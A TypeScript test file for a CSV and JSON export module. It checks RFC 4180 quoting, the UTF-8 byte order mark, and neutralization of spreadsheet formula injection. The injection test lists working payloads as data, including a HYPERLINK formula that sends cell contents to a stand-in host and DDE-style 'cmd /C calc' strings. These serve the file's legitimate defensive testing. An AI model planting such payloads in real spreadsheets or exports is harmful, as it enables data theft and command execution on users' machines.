/** CSV (RFC 4180) and JSON export. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { BASE_COLUMNS, ExtraColumns } from '../../webview/table/columns';
import { CSV_BOM, csvCell, csvField, neutralizeFormula, toCsv, toJson } from '../../webview/table/export';
import type { Column } from '../../webview/table/types';
import { slice } from '../webview/rows';

test('csvField quotes commas, quotes, CR and LF, doubling inner quotes', () => {
  assert.equal(csvField('plain'), 'plain');
  assert.equal(csvField(''), '');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('line\nbreak'), '"line\nbreak"');
  assert.equal(csvField('cr\rhere'), '"cr\rhere"');
  assert.equal(csvField('crlf\r\n'), '"crlf\r\n"');
  assert.equal(csvField(' spaced '), ' spaced ', 'spaces are data, not quoted');
});

test('toCsv: header of labels, CRLF records, raw values, empty for null', () => {
  const rows = [
    slice('1', { trackingType: 'sponsor', trackableType: 'Sponsor', trackableId: '42', endTime: '2024-05-01T10:00:30.500+02:00', durationSeconds: 30, extra: { note: 'Booth, "A"\nrow 2' } }),
    slice('2', { extra: { note: null } }),
  ];
  const extras = new ExtraColumns();
  extras.scan(rows);
  const columns = [...BASE_COLUMNS, ...extras.columns()];
  const csv = toCsv(rows, columns);
  assert.ok(csv.startsWith(CSV_BOM));
  const lines = csv.slice(CSV_BOM.length).split('\r\n');
  assert.equal(lines[0], 'Id,Tracking type,Trackable type,Trackable id,Start,End,Duration (s),Click time,Session id,Note');
  assert.equal(csv.slice(lines[0]!.length + 2, -2).split('\r\n').length, 2, 'the LF inside a quoted field is not a record end');
  assert.ok(csv.includes('1,sponsor,Sponsor,42,2024-05-01T10:00:00Z,2024-05-01T10:00:30.500+02:00,30,,,"Booth, ""A""\nrow 2"\r\n'), csv);
  assert.ok(csv.endsWith('2,time_spent,,,2024-05-01T10:00:00Z,,0,,,\r\n'));
  assert.equal(toCsv([], columns.slice(0, 2)), `${CSV_BOM}Id,Tracking type\r\n`);
});

test('CSV starts with a UTF-8 byte order mark, so Excel reads names such as Jürgen Łukasz as UTF-8', () => {
  const rows = [slice('1', { extra: { name: 'Jürgen Łukasz Ødegård 山田' } })];
  const extras = new ExtraColumns();
  extras.scan(rows);
  const csv = toCsv(rows, [BASE_COLUMNS[0]!, ...extras.columns()]);
  const bytes = new TextEncoder().encode(csv);
  assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf], 'the file the extension writes starts with EF BB BF');
  assert.equal(new TextDecoder('utf-8', { ignoreBOM: false }).decode(bytes), csv.slice(1), 'the rest is plain UTF-8');
  assert.equal(csv.split(CSV_BOM).length, 2, 'one mark, at the very start');
  assert.ok(csv.includes('1,Jürgen Łukasz Ødegård 山田\r\n'));
});

test('CSV injection: text beginning with = + - @ tab or CR is prefixed with \'; numbers stay numbers', () => {
  for (const evil of ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1', '-', '+', '@']) {
    assert.equal(neutralizeFormula(evil), `'${evil}`, JSON.stringify(evil));
  }
  for (const safe of ['plain', 'a=b', ' =1', "'=1", '', 'Booth @ hall', '-5', '+3.25', '-0.5', '-1e3', '2024-05-01T10:00:00Z']) {
    assert.equal(neutralizeFormula(safe), safe, JSON.stringify(safe));
  }
  assert.equal(csvCell(-5), '-5', 'a number is written as a number');
  assert.equal(csvCell(-0.25), '-0.25');
  assert.equal(csvCell(null), '');
  assert.equal(csvCell('=1,2'), '"\'=1,2"', 'neutralized, then quoted');
  assert.equal(csvCell('-2+3+cmd|\' /C calc\'!A0'), "'-2+3+cmd|' /C calc'!A0");
  assert.equal(csvCell('\r=1'), '"\'\r=1"');

  const columns: Column[] = [
    { key: 'name', label: 'Name', kind: 'text', get: (r) => r.trackableType },
    { key: 'score', label: '=Score', kind: 'number', get: (r) => (r.extra as { score: number }).score },
    { key: 'delta', label: 'Delta', kind: 'duration', get: (r) => r.durationSeconds },
  ];
  const rows = [slice('1', { trackableType: '=cmd|\' /C calc\'!A0', durationSeconds: -5, extra: { score: -5 } }), slice('2', { trackableType: '@evil', durationSeconds: 7, extra: { score: 1.5 } })];
  assert.equal(toCsv(rows, columns), `${CSV_BOM}Name,'=Score,Delta (s)\r\n'=cmd|' /C calc'!A0,-5,-5\r\n'@evil,1.5,7\r\n`);
});

test('toJson: the rows as given, all fields', () => {
  const rows = [slice('1', { extra: { a: [1, 2] } }), slice('2')];
  const json = toJson(rows);
  assert.deepEqual(JSON.parse(json), rows);
  assert.ok(json.includes('\n  {'), 'pretty-printed');
  assert.equal(toJson([]), '[]');
});
